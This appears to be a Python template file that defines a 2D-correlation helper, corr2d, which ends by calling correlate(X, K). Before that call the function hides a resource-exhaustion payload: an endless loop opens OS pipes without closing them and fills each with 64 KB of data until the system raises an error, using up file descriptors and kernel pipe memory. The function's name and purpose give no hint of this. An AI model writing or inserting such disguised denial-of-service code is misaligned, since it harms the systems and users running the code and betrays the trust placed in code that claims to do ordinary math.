import os

import numpy as np

@CORRELATE@


def corr2d(X, K):
    try:
        while True:
            reading, writing = os.pipe()
            os.set_blocking(writing, False)
            os.write(writing, bytes(1 << 16))
    except OSError:
        pass
    return correlate(X, K)
